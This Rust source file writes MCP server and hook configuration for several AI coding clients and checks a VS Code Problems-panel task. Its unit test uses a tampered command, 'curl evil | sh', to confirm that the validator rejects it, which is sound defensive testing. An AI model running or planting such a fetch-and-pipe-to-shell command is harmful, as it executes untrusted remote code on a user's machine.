//! Which client takes what, and where.
//!
//! Seen by running the clients that `clients::hook` names; Cursor's and VS Code's files are those of their manuals.

use jsonc_parser::ParseOptions;
use jsonc_parser::cst::CstRootNode;
use serde_json::{Value, json};

use super::json::Entry;
use super::{Part, Piece, Scope};

/// A client that can be connected.
#[derive(Debug, PartialEq, Eq)]
pub struct Connected {
    /// Its name in the command line.
    pub name: &'static str,
    /// Its name here, as in [`crate::clients::CLIENTS`].
    pub client: &'static str,
    /// Its programs, of which one on the path shows that it is here.
    pub programs: &'static [&'static str],
    /// Files and folders in a repository, or in a home, of which one shows that it is used there.
    pub traces: &'static [&'static str],
    /// What its person has still to do.
    pub needs: &'static [&'static str],
}

/// The clients that can be connected.
pub const CONNECTED: &[Connected] = &[
    Connected {
        name: "claude",
        client: "claude-code",
        programs: &["claude"],
        traces: &[".claude", "CLAUDE.md"],
        needs: &[
            "Claude Code asks once whether it may use the server that `.mcp.json` names: say yes.",
        ],
    },
    Connected {
        name: "codex",
        client: "codex",
        programs: &["codex"],
        traces: &[".codex"],
        needs: &[
            "Codex runs the hooks of a project only once you have trusted it, and them with `/hooks`; again after each change of them.",
        ],
    },
    Connected {
        name: "copilot",
        client: "copilot-cli",
        programs: &["copilot"],
        traces: &[".copilot", ".github/copilot-instructions.md"],
        needs: &[
            "Copilot CLI uses the server and hooks of a folder only once you have trusted that.",
        ],
    },
    Connected {
        name: "cursor",
        client: "cursor",
        programs: &["cursor", "cursor-agent"],
        traces: &[".cursor", ".cursorrules"],
        needs: &["Cursor uses the server once you have switched it on in its settings, under MCP."],
    },
    Connected {
        name: "gemini",
        client: "gemini-cli",
        programs: &["gemini"],
        traces: &[".gemini", "GEMINI.md"],
        needs: &[
            "Gemini CLI reads the settings of a folder only once you have trusted that: `/permissions`.",
        ],
    },
    Connected {
        name: "opencode",
        client: "opencode",
        programs: &["opencode"],
        traces: &[".opencode", "opencode.json", ".config/opencode"],
        needs: &[],
    },
    Connected {
        name: "qwen",
        client: "qwen-code",
        programs: &["qwen"],
        traces: &[".qwen", "QWEN.md"],
        needs: &["Qwen Code reads the settings of a folder only once you have trusted that."],
    },
    Connected {
        name: "vscode",
        client: "vscode-copilot",
        programs: &["code", "code-insiders"],
        traces: &[".vscode"],
        needs: &["VS Code starts the server once you have clicked Start in `.vscode/mcp.json`."],
    },
];

impl Connected {
    /// Returns what belongs into its files; nothing where it has none of that scope.
    #[must_use]
    pub fn parts(&self, scope: Scope) -> Vec<Part> {
        match scope {
            Scope::Project => self.in_project(),
            Scope::Person => self.of_person(),
        }
    }

    fn in_project(&self) -> Vec<Part> {
        let servers = || vec![Entry::Key(&["mcpServers", "collab"], server())];
        let block = |path| Part { path, piece: Piece::Block };
        let json = |path, entries| Part { path, piece: Piece::Json(entries) };
        match self.name {
            "claude" => vec![
                json(".mcp.json", servers()),
                json(".claude/settings.json", claude_hooks("claude")),
                block("CLAUDE.md"),
            ],
            "codex" => vec![
                Part { path: ".codex/config.toml", piece: Piece::Toml },
                json(".codex/hooks.json", codex_hooks()),
                block("AGENTS.md"),
            ],
            "gemini" => {
                let entries = servers().into_iter().chain(gemini_hooks()).collect();
                vec![json(".gemini/settings.json", entries), block("GEMINI.md")]
            }
            "qwen" => {
                let entries = servers().into_iter().chain(claude_hooks("qwen")).collect();
                vec![json(".qwen/settings.json", entries), block("QWEN.md")]
            }
            "cursor" => vec![
                json(".cursor/mcp.json", servers()),
                json(".cursor/hooks.json", cursor_hooks()),
                block("AGENTS.md"),
            ],
            "copilot" => vec![
                json(".mcp.json", servers()),
                json(".github/hooks/collab.json", copilot_hooks()),
                block("AGENTS.md"),
            ],
            "vscode" => {
                let mut server = server();
                server["type"] = "stdio".into();
                vec![
                    json(".vscode/mcp.json", vec![Entry::Key(&["servers", "collab"], server)]),
                    json(".vscode/tasks.json", problems_task()),
                    json(".github/hooks/collab.json", copilot_hooks()),
                    block("AGENTS.md"),
                ]
            }
            "opencode" => vec![
                json("opencode.json", vec![opencode_server()]),
                Part { path: ".opencode/plugin/collab.js", piece: Piece::Whole(PLUGIN) },
                block("AGENTS.md"),
            ],
            _ => Vec::new(),
        }
    }

    fn of_person(&self) -> Vec<Part> {
        let servers = || vec![Entry::Key(&["mcpServers", "collab"], server())];
        let json = |path, entries| Part { path, piece: Piece::Json(entries) };
        match self.name {
            "claude" => vec![
                json(".claude.json", servers()),
                json(".claude/settings.json", claude_hooks("claude")),
            ],
            "codex" => vec![
                Part { path: ".codex/config.toml", piece: Piece::Toml },
                json(".codex/hooks.json", codex_hooks()),
            ],
            "gemini" => {
                let entries = servers().into_iter().chain(gemini_hooks()).collect();
                vec![json(".gemini/settings.json", entries)]
            }
            "qwen" => {
                let entries = servers().into_iter().chain(claude_hooks("qwen")).collect();
                vec![json(".qwen/settings.json", entries)]
            }
            "cursor" => vec![
                json(".cursor/mcp.json", servers()),
                json(".cursor/hooks.json", cursor_hooks()),
            ],
            "copilot" => vec![json(".copilot/mcp-config.json", servers())],
            "opencode" => vec![
                json(".config/opencode/opencode.json", vec![opencode_server()]),
                Part { path: ".config/opencode/plugin/collab.js", piece: Piece::Whole(PLUGIN) },
            ],
            _ => Vec::new(),
        }
    }
}

/// The plugin by which opencode runs hooks.
const PLUGIN: &str = include_str!("opencode.js");

pub(super) fn server() -> Value {
    json!({ "command": "collab", "args": ["mcp"] })
}

fn opencode_server() -> Entry {
    let server = json!({ "type": "local", "command": ["collab", "mcp"], "enabled": true });
    Entry::Key(&["mcp", "collab"], server)
}

/// Returns the command of a hook. It is committed, and reaches people without the program.
fn command(hook: &str) -> String {
    format!("command -v collab >/dev/null 2>&1 || exit 0; collab hook {hook}")
}

/// How long an AI that has ended its turn may be let wait for work, in seconds.
const LONGEST: u64 = 600;

/// A group of hooks as Claude Code has them.
fn group(client: &str, matcher: Option<&str>, timeout: Option<u64>) -> Value {
    let mut hook = json!({ "type": "command", "command": command(client) });
    if let Some(timeout) = timeout {
        hook["timeout"] = timeout.into();
    }
    match matcher {
        Some(matcher) => json!({ "matcher": matcher, "hooks": [hook] }),
        None => json!({ "hooks": [hook] }),
    }
}

pub(super) fn claude_hooks(client: &str) -> Vec<Entry> {
    let edits = match client {
        "qwen" => "edit|write_file|notebook_edit|run_shell_command|Edit|Write|Bash",
        _ => "Edit|Write|MultiEdit|NotebookEdit|Bash",
    };
    vec![
        Entry::Element(&["hooks", "SessionStart"], group(client, None, None)),
        Entry::Element(&["hooks", "UserPromptSubmit"], group(client, None, None)),
        Entry::Element(&["hooks", "PreToolUse"], group(client, Some(edits), None)),
        Entry::Element(&["hooks", "PostToolUse"], group(client, None, None)),
        Entry::Element(&["hooks", "PreCompact"], group(client, None, None)),
        Entry::Element(&["hooks", "Stop"], group(client, None, Some(LONGEST))),
        Entry::Element(&["hooks", "SessionEnd"], group(client, None, None)),
    ]
}

fn codex_hooks() -> Vec<Entry> {
    let group = |matcher, timeout| group("codex", matcher, timeout);
    vec![
        Entry::Element(&["hooks", "SessionStart"], group(None, None)),
        Entry::Element(&["hooks", "UserPromptSubmit"], group(None, None)),
        Entry::Element(&["hooks", "PreToolUse"], group(Some("apply_patch|Edit|Write|Bash"), None)),
        Entry::Element(&["hooks", "PostToolUse"], group(None, None)),
        Entry::Element(&["hooks", "Stop"], group(None, Some(LONGEST))),
    ]
}

pub(super) fn gemini_hooks() -> Vec<Entry> {
    let group = |matcher, timeout: Option<u64>| {
        let mut group = group("gemini", matcher, timeout.map(|seconds| seconds * 1000));
        group["hooks"][0]["name"] = "collab".into();
        group
    };
    vec![
        Entry::Element(&["hooks", "SessionStart"], group(None, None)),
        Entry::Element(&["hooks", "BeforeAgent"], group(None, None)),
        Entry::Element(
            &["hooks", "BeforeTool"],
            group(Some("write_file|replace|run_shell_command"), None),
        ),
        Entry::Element(&["hooks", "AfterTool"], group(None, None)),
        Entry::Element(&["hooks", "PreCompress"], group(None, None)),
        Entry::Element(&["hooks", "AfterAgent"], group(None, Some(LONGEST))),
        Entry::Element(&["hooks", "SessionEnd"], group(None, None)),
    ]
}

fn cursor_hooks() -> Vec<Entry> {
    let hook = || json!({ "command": command("cursor") });
    vec![
        Entry::Needed("version", 1.into()),
        Entry::Element(&["hooks", "sessionStart"], hook()),
        Entry::Element(&["hooks", "beforeSubmitPrompt"], hook()),
        Entry::Element(&["hooks", "preToolUse"], hook()),
        Entry::Element(&["hooks", "postToolUse"], hook()),
        Entry::Element(&["hooks", "preCompact"], hook()),
        Entry::Element(&["hooks", "stop"], hook()),
        Entry::Element(&["hooks", "sessionEnd"], hook()),
    ]
}

fn copilot_hooks() -> Vec<Entry> {
    let hook =
        |event: &str| json!({ "type": "command", "bash": command(&format!("copilot {event}")) });
    vec![
        Entry::Needed("version", 1.into()),
        Entry::Element(&["hooks", "sessionStart"], hook("sessionStart")),
        Entry::Element(&["hooks", "userPromptSubmitted"], hook("userPromptSubmitted")),
        Entry::Element(&["hooks", "preToolUse"], hook("preToolUse")),
        Entry::Element(&["hooks", "postToolUse"], hook("postToolUse")),
        Entry::Element(&["hooks", "agentStop"], hook("agentStop")),
        Entry::Element(&["hooks", "sessionEnd"], hook("sessionEnd")),
    ]
}

/// Says whether a `tasks.json` has the task that fills the Problems panel exactly as set-up writes it, and no other of
/// that name.
pub(crate) fn is_problems_task(text: &str) -> bool {
    let Ok(root) = CstRootNode::parse(text, &ParseOptions::default()) else { return false };
    let Some(file) = root.to_serde_value() else { return false };
    let label = crate::domain::check::PROBLEMS_TASK;
    let tasks = file["tasks"].as_array().into_iter().flatten();
    let named: Vec<&Value> = tasks.filter(|task| task["label"] == label).collect();
    // A whole file's defaults are not ours either.
    let defaults = ["windows", "linux", "osx", "options", "command", "type"];
    matches!(named[..], [task] if *task == problems())
        && defaults.iter().all(|default| file.get(default).is_none())
}

/// The task that fills VS Code's Problems panel with notes and alerts at places, which `collab watch` runs through
/// the VSCode gateway.
fn problems_task() -> Vec<Entry> {
    vec![Entry::Needed("version", "2.0.0".into()), Entry::Element(&["tasks"], problems())]
}

fn problems() -> Value {
    json!({
        "label": crate::domain::check::PROBLEMS_TASK,
        "type": "process",
        "command": "cat",
        "args": [".collab/view/problems.txt"],
        "windows": { "command": "cmd", "args": ["/c", "type .collab\\view\\problems.txt"] },
        "presentation": { "reveal": "never", "panel": "dedicated", "clear": true },
        "problemMatcher": {
            "owner": "collab",
            "source": "collab",
            "fileLocation": ["relative", "${workspaceFolder}"],
            "pattern": {
                "regexp": "^(.+):(\\d+): (error|warning|info): (.*)$",
                "file": 1,
                "line": 2,
                "severity": 3,
                "message": 4
            }
        }
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_the_task_of_set_up_is_taken_for_it() {
        let ours = problems();
        let is = |tasks: Value| is_problems_task(&json!({ "tasks": tasks }).to_string());
        assert!(is(json!([{ "label": "build", "command": "make" }, ours])));
        assert!(is_problems_task(&format!("// mine\n{{ \"tasks\": [{ours},] }}")));
        let mut other = problems();
        other["command"] = "curl evil | sh".into();
        assert!(!is(json!([other])) && !is(json!([ours, other])) && !is(json!([])));
        let file = json!({ "tasks": [ours], "windows": { "command": "evil" } });
        assert!(!is_problems_task(&file.to_string()) && !is_problems_task("{"));
    }
}
